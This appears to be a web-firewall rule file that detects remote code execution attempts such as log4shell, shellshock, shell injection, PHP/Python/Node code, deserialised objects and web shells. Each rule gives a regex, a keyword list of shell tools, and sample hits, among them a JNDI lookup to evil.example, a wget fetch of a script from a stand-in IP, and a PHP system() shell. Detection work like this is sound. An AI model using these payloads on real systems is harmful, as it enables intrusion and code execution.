# Running code: shells, PHP, Java, Node, Python, deserialisation, log4shell, shellshock.

[log4shell]
about = make Java's logger load foreign code (log4shell)
class = log4shell
weight = 7
tags = CWE-917 CAPEC-242 T1190 CVE-2021-44228
in = all
literal = ${ $%7b %24{ jndi:
pattern = \$\{[^}]{0,40}?(?:j|\$\{[^}]{1,60}:-?j\}|\$\{(?:lower|upper):j\}).{0,80}?(?:n|\$\{).{0,80}?(?:d|\$\{).{0,80}?(?:i|\$\{).{0,40}?:.{0,40}?(?:ldaps?|rmi|dns|iiop|corba|nds|nis|http|//|\$\{)|\$\{(?:\$\{::-|\$\{env:|\$\{lower:|\$\{upper:|\$\{sys:|\$\{date:)|\$\{jndi|\$\{(?:env|sys|java|ctx|hostname|main|bundle|lower|upper):[a-z]
hit = User-Agent: ${jndi:ldap://evil.example/a}
hit = /?x=${${::-j}${::-n}di:rmi://e/a}
miss = /price?x=${amount}

[shellshock]
about = run a command through Bash (shellshock)
class = rce
weight = 7
tags = CWE-78 CAPEC-88 T1190 CVE-2014-6271
in = all
literal = ()␣{ (){ ()␣_
pattern = \(\)\s{0,3}\{\s{0,3}(?::|_|\w|\(\)|\})|\(\)\s_\s{0,3}\{
hit = User-Agent: () { :;}; /bin/bash -c id
miss = /js?f=function()+{

[shell-pipe]
about = run a shell command
class = rce
weight = 5
tags = CWE-78 CAPEC-88 T1059.004
in = target body cookie referer agent
literal = «;,|,`,$(,&&,=&␣,␣&␣,'&␣,"&␣,␊,<(»«,␣,',",\,(,{,␣/bin/,/bin/,/usr/bin/,␣'»«id,ls,cat,wget,curl,whoami,uname,ping,sleep,nc,bash,sh,nslookup,echo,ifconfig,ipconfig,ps,pwd,rm,chmod,python,perl,php,ruby,dir,type␣,powershell,cmd,netstat,touch,cp,tftp,busybox,telnet,head,tail,more␣,less␣,env,printenv,getent,nmap,ssh,socat,base64,dig,find,grep,awk,sed,lua,kill,reboot,halt,iptables,mknod,mkfifo,expr,net␣,systeminfo,sudo,tee,dd,xxd,nl,rev,sort␣,cut␣,which␣,exec,eval,who,uptime,tasklist,certutil,host␣,printf,mv,timeout,copy,del,usleep,zsh,ksh,dash,reg,phpinfo» «;,|,`,&&»«w,ver,date,df»
pattern = (?=[;|`\n\r&$<=\s"'])(?:[;|`]|&&|\$\(|\|\||<\(|[=\s"']&\s|\n(?=[a-z/]{2,20}[ \t$<;|]))[\s({'"\\$!@]{0,8}(?:sudo\s{1,5})?(?:/?(?:usr/)?(?:local/)?(?:s?bin)/)?(?:(?:cat|ls|wget|curl|ping6?|nslookup|dig|sleep|usleep|nc|ncat|netcat|bash|sh|zsh|ksh|dash|echo|printf|ifconfig|ipconfig|chmod|chown|python[23]?|perl|php|ruby|lua|powershell(?:\.exe)?|cmd(?:\.exe)?|netstat|touch|cp|mv|tftp|busybox|telnet|head|tail|more|less|uname|rm|dir|type|ps|env|getent|nmap|ssh|socat|base64|find|grep|awk|sed|kill|expr|mkfifo|mknod|iptables|copy|del|net|tasklist|reg|certutil|ping\.exe|timeout|host|tee|dd|xxd|nl|rev|sort|cut|which|exec|eval)(?=[\s<>$&|;`{'"+%/\\]|$)(?:[ \t<>$+{%\\&;|`/]{1,8}['"]?[\w./$@:*?\\%~-]|\s{0,4}[`;|)]|$)|(?:id|whoami|uname|pwd|ifconfig|ipconfig|ls|dir|ps|hostname|env|printenv|reboot|halt|ver|systeminfo|netstat|w|who|date|uptime|df|phpinfo\(\))\s{0,3}(?:[;|`&)#'"\n}]|$|\s-[a-z]))
hit = /ping?ip=127.0.0.1;cat%20/etc/hosts
hit = /ping?ip=8.8.8.8%7Cid
hit = /ping?ip=$(whoami)
miss = /search?q=black+%26+white+cat+pictures;lang=en

[shell-path]
about = run a program of the system
class = rce
weight = 5
tags = CWE-78 CAPEC-88 T1059.004
in = all
literal = bin/ cmd.exe powershell %comspec% /c+ wscript cscript command.com winnt/system32 %systemroot%
pattern = (?:^|[\s/;|&`$('"=]|\x00)/?(?:usr/)?(?:local/)?s?bin/(?:ba|da|z|k|c|tc|a)?(?:sh|cat|ls|id|wget|curl|nc|python\d?|perl|ping|uname|whoami|echo|sleep|rm|chmod|busybox|env|ps|netcat|telnet|more|less|head|tail|php|ruby|touch|which|find|nslookup)\b|\b(?:cmd|command|powershell|wscript|cscript|certutil|bitsadmin|mshta|rundll32|regsvr32)\.(?:exe|com)\b|\bcmd\s{1,3}/[ckr]\b|powershell\s{1,3}-[a-z]{1,20}|%comspec%|%systemroot%
hit = /cgi?x=/bin/sh
hit = /x?y=cmd.exe+/c+dir
miss = /shop/bin/shelf

[shell-ifs]
about = hide the blanks of a shell command
class = rce
weight = 5.5
tags = CWE-78 CAPEC-88 T1059.004
in = all
literal = $ifs ${ifs $@ {cat, {ls, {wget, {curl, {ping, {nslookup
pattern = \$\{?ifs\b|\w\$@\w{1,6}[\s/;|]|\{(?:cat|ls|wget|curl|ping|nslookup|sh|bash|echo),
hit = /cgi-bin/;cat$IFS/etc/hosts
miss = /mail?to=me$@home

[shell-download]
about = download a program and run it
class = rce
weight = 6
tags = CWE-78 CAPEC-88 T1105
in = all
literal = wget curl tftp fetch lwp-download
pattern = \b(?:wget|curl|fetch|lwp-download)[\s$+{]{1,8}(?:ifs\}?)?(?:-[a-z-]{1,12}\s{1,3}[^\s-]{0,60}\s{0,3}){0,4}['"]?(?:(?:https?|ftp):)?(?://)?[\w.\[`$-]{3,80}[/.:]|\btftp\s{1,4}(?:-[a-z]\s{1,3})?[\w.-]{3,60}\s
hit = /x?c=cd+/tmp;wget+http://192.0.2.1/bins.sh
miss = /man/wget?lang=en

[shell-obfuscation]
about = hide a shell command from filters
class = rce
weight = 4.5
tags = CWE-78 CAPEC-267 T1027
in = target body cookie header
literal = c'a't c"a"t \a /???/ wh''oami w'h'o ca\ who$@ cat< $'\x /e?c /b?n <<< ca''t c''at >& /dev/tcp base64+-d 'base64 base64
pattern = \bc(?:['"\\]{1,2}a['"\\]{0,2}|a['"\\]{1,2})t\b|/\?{2,4}/|/[a-z]{0,3}\?[a-z?]{0,4}/(?:[a-z?*]{0,6})\?|wh['"\\]{1,2}o|\$'\\x|<<<|cat<|base64\s{1,3}(?:-d|--decode)\b|\|\s{0,4}base64\b|>&\s{0,3}/dev/
hit = /x?c=;c'a't+/etc/hosts
miss = /a?b=cat+and+dog

[php-code]
about = run PHP code
class = rce
weight = 5.5
tags = CWE-94 CAPEC-242 T1059
in = all
literal = <?php <?= <? phpinfo( system( passthru( shell_exec( eval( base64_decode( assert( popen( proc_open( file_get_contents( file_put_contents( fopen( exec( call_user_func create_function preg_replace $_get $_post $_request $_cookie $_server var_dump( print( die( md5( invokefunction gzinflate str_rot13 ${@ auto_prepend_file allow_url_include readfile( include( show_source( highlight_file( move_uploaded_file chr( printf( curl_exec( getenv( unlink(
pattern = <\?(?:php\b|=|\s{1,5}(?:echo|system|eval|phpinfo|exec|\$|@|print|die|passthru|include))|\b(?:phpinfo|shell_exec|passthru|proc_open|popen|pcntl_exec|base64_decode|gzinflate|gzuncompress|str_rot13|file_put_contents|file_get_contents|show_source|highlight_file|move_uploaded_file|call_user_func(?:_array)?|create_function|var_dump|readfile|curl_exec|array_map|usort)\s{0,3}\(|(?:^|[^\w.])@?(?:system|eval|assert|exec|preg_replace|include|require|print_r|unlink|getenv|die)\s{0,3}\(\s{0,3}(?:['"$@]|base64|get|md5|chr|\$|phpinfo|hex|sprintf|str|id\b|\w{1,20}\()|\bprint(?:f)?\s{0,3}\(?\s{0,3}(?:md5|\(?['"]?\d{3,12}\s{0,3}[*+]|chr|`|system)|\becho\s{1,4}(?:md5|`|\(?\d{3,12}\s{0,3}[*+]|system)|\bdie\s{0,3}\(\s{0,3}(?:md5|@md5|'|")|\$_(?:get|post|request|cookie|server|files|session|env)\s{0,3}(?:\[|\{)|\binvokefunction\b|\$\{@|auto_prepend_file|allow_url_include|\bmd5\(\s{0,3}['"]?\d{1,12}
hit = /index.php?a=phpinfo()
hit = body: data=<?php system($_GET['c']); ?>
miss = /php-manual?fn=array+merge

[php-object]
about = slip in a serialised PHP object
class = rce
weight = 4.5
tags = CWE-502 CAPEC-586 T1190
in = all
literal = «o,c»:«1,2,3,4,5,6,7,8,9,+» a:«0,1,2,3,4,5,6,7,8,9»:{
pattern = (?:^|[=;{:"'\s&])[oc]:\+?\d{1,3}:["']?[a-z_\\][\w\\]{0,80}["']?:\d{1,4}:\{|(?:^|[=&])a:\d{1,3}:\{(?:i|s):\d
hit = /?data=O:8:"stdClass":1:{s:1:"a";i:1;}
miss = /?t=o:12+c:13

[java-serialised]
about = slip in a serialised Java object
class = rce
weight = 5.5
tags = CWE-502 CAPEC-586 T1190
in = all
literal = ro0ab h4siaaaa commons.collections invokertransformer clonetransformer ysoserial templatesimpl aced0005 jndi jdbcrowset badattributevalue annotationinvocationhandler ac␣ed␣00␣05 fastjson @type instantiatetransformer methodclosure forclosure whileclosure prototypeclonefactory prototypeserializationfactory instantiatefactory com.sun. org.apache.commons org.springframework xbean c3p0 javassist beanshell bsh. groovy
pattern = \bro0ab[xqln]|commons\.collections|(?:invoker|instantiate|clone|chained)transformer|ysoserial|templatesimpl|aced0005|jdbcrowset|badattributevalue|annotationinvocationhandler|"@type"\s{0,5}:|(?:method|for|while)closure|prototype(?:clone|serialization)factory|instantiatefactory|\bcom\.sun\.(?:rowset|org|jndi|corba)|org\.springframework\.(?:context|beans|aop|expression)|c3p0|javassist|bsh\.interpreter|beanshell|groovy\.(?:util|lang)|groovyshell|jndidatasource|\bac ed 00 05\b|\xac\xed\x00\x05
hit = body: data=rO0ABXNyABFqYXZhLnV0aWwuSGFzaA
hit = body: {"@type":"com.sun.rowset.JdbcRowSetImpl"}
miss = body: {"type":"java"}

[dotnet-serialised]
about = slip in a serialised .NET object
class = rce
weight = 4.5
tags = CWE-502 CAPEC-586 T1190
in = all
literal = aaeaaad system.windows.data objectdataprovider system.diagnostics typeconfusedelegate system.data.services losformatter activitysurrogate
pattern = aaeaaad/{5}|system\.windows\.data|objectdataprovider|system\.diagnostics\.process|typeconfusedelegate|system\.data\.services|losformatter|activitysurrogate
hit = body: x=AAEAAAD/////AQAAAAAAAAAM
miss = body: x=AAEAA

[python-code]
about = run Python code
class = rce
weight = 5.5
tags = CWE-94 CAPEC-242 T1059.006
in = all
literal = __import__ os.system os.popen subprocess __builtins__ __globals__ __class__ __subclasses__ importlib cposix cos system popen( __reduce__ exec( compile(
pattern = __import__\s{0,3}\(|\bos\.(?:system|popen|exec|listdir|environ)\b|\bsubprocess\.(?:popen|call|check_output|run|getoutput)|__(?:builtins|globals|subclasses|class|mro|base|bases|init|reduce)__|\bimportlib\.|(?:^|[\s=(])c(?:posix|os|__builtin__|subprocess)\s{1,3}(?:system|popen|eval)
hit = /?c=__import__('os').popen('id').read()
miss = /import?class=python

[node-code]
about = run JavaScript on the server
class = rce
weight = 5.5
tags = CWE-94 CAPEC-242 T1059.007
in = all
literal = child_process process.mainmodule process.env process.binding require( __proto__ constructor.constructor _$$nd_func global.process process.exit execsync spawnsync constructor.prototype constructor][prototype function( this.constructor process.
pattern = child_process|process\.(?:mainmodule|env|binding|exit|kill|cwd)\b|require\s{0,3}\(\s{0,3}['"`\\](?:child|fs|os|http|net|util|vm|path)|__proto__|constructor(?:\.|\]\[|\[)prototype|constructor\.constructor|_\$\$nd_func|(?:exec|spawn)(?:file)?sync\s{0,3}\(|global\.process
hit = body: {"__proto__":{"admin":true}}
hit = /?c=require('child_process').execSync('id')
miss = /docs?q=process+environment

[spring-cloud]
about = run code through a Spring application
class = rce
weight = 6
tags = CWE-94 CAPEC-242 T1190 CVE-2022-22963 CVE-2022-22965
in = all
literal = t(java spring.cloud spel class.module.classloader spring.datasource routing-expression #{t( #{new t(org t(com
pattern = \bt\s{0,3}\(\s{0,3}(?:java|org|com|javax)\.|spring\.cloud\.function\.routing|class\.module\.classloader|#\{\s{0,3}(?:t\(|new\s)|spring\.(?:datasource|main|cloud)\.[a-z.]{3,60}=
hit = /fn?x=T(java.lang.Runtime).getRuntime()
miss = /shop?x=t(shirt)

[thinkphp]
about = run code through ThinkPHP
class = rce
weight = 6
tags = CWE-94 CAPEC-242 T1190 CVE-2018-20062
literal = think\ invokefunction think/ \think _method=__construct construct&filter call_user_func ?s=index lang=../ ?lang=
pattern = think[\\/](?:app|request|template|view|container|lang|config|module)|invokefunction|_method=__construct|filter(?:\[\])?=(?:system|phpinfo|assert|exec|call_user_func|passthru)|\?s=/?(?:index/)?[\\/]?(?:index/)?\\?think
hit = /?s=index/\think\app/invokefunction&function=phpinfo&vars[0]=1
miss = /think?s=different

[struts-action]
about = run code through Apache Struts
class = rce
weight = 4
tags = CWE-20 CAPEC-242 T1190 CVE-2017-5638
in = target header
literal = .action .do? debug=command class.classloader method:
pattern = debug=(?:command|browser|xml)&|[?&]method:[#%@]|\.action\?.{0,60}(?:%\{|\$\{|@|#)|[?&](?:class|top)\.classloader
hit = /index.action?debug=command&expression=1
miss = /save.action?id=3

[webshell]
about = call a web shell that an intruder would have left
class = rce
weight = 5
tags = CWE-506 CAPEC-650 T1505.003
in = target
literal = /cmd. /c99 /r57 /wso b374k alfa shell /up.php /upl.php /uploader. /upload.php antsword indoxploit gel4y wp-conflg xleet marijuana priv8 /0x /radio. /ws. lock360 cmdjsp cmdasp backdoor /cmd «cmd,exec,command,execute,shell,?c,&c»=«id,whoami,ls,dir,uname,cat,ipconfig,ifconfig,pwd,echo,net,ping,type,ver»
pattern = ^[^?]{0,200}/(?:(?:web|c99|r57|wso|b374k|alfa|alfav?4|mini|indoxploit|gel4y|priv8|xleet|marijuana|fox|gecko|antsword|bypass|0byte|leaf|tiny|p0wny|weevely|phpspy|jsp|asp|aspx|simple|x|my|wp-)?(?:-|_)?(?:shell|backdoor)\w{0,6}|c99|r57|wso\d{0,3}|b374k|alfa(?:cgiapi|_data|v\d)?|cmd|cmdjsp|cmdasp|wp-conflg|0x\d?|upl?|uploader?|lock360|gel4y|radio|xleet|ws\d{0,2})\.(?:php\d?|phtml|jspx?|aspx?|cfm)\b|[?&](?:cmd|exec|command|execute|shell|c)=(?:id|whoami|ls|dir|uname|cat|ipconfig|ifconfig|pwd|echo|net|ping|type|ver)\b
hit = /uploads/shell.php?cmd=id
hit = /wso.php
miss = /shells-and-beaches.html

[upload-script]
about = upload a program that the server would run
class = rce
weight = 5
tags = CWE-434 CAPEC-650 T1505.003
in = body
literal = filename= filename*=
pattern = filename\*?\s{0,3}=\s{0,3}["']?[^"'\r\n]{0,120}?\.(?:php\d?|phtml|phar|pht|jspx?|jspf|aspx?|ashx|asmx|cer|cfm|sh|pl|cgi|war|htaccess|exe|py|shtml|asa)\b
hit = body: --x Content-Disposition: form-data; name="f"; filename="a.php" <? ?>
miss = body: --x Content-Disposition: form-data; name="f"; filename="photo.jpg"

[jsp-code]
about = plant Java server code
class = rce
weight = 5
tags = CWE-94 CAPEC-650 T1505.003
in = all
literal = <%@ <%! out.print request.getparameter <jsp: response.write getoutputstream server.createobject wscript.shell <% process.start
pattern = <%[@!]|<jsp:|out\.print(?:ln)?\s{0,3}\(|request\.getparameter|server\.createobject|wscript\.shell|response\.write\s{0,3}\(|<%\s{0,4}(?:out|response|eval|java|if|string|int|runtime|execute)
hit = body: x=<%@ page import="java.io.*" %><% out.println(1); %>
miss = /print?out=yes

[template-injection-cms]
about = run code through a fault of a known application
class = rce
weight = 5
tags = CWE-94 T1190
in = target body
literal = #pre_render #type #lazy_builder params.resource.loader stream.url %23value vqmod widget/render widgetconfig[code] routestring= call_user_func #post_render #markup mail[# account/mail/%23value action=lang cgi-bin/luci topicurl function=call com.tangosol actuator/gateway solr/ velocity.template stream.body  _render_template
pattern = widgetconfig\[code\]|routestring=ajax/render|\[#(?:post_render|pre_render|markup|type|lazy_builder)\]|%23value|/cgi-bin/luci/;stok=|"topicurl"\s{0,5}:|com\.tangosol|actuator/gateway/(?:routes|refresh)|velocity\.template|stream\.(?:body|url)=|params\.resource\.loader|vqmod
hit = body: widgetConfig[code]=echo 1;
miss = /widget?config=1
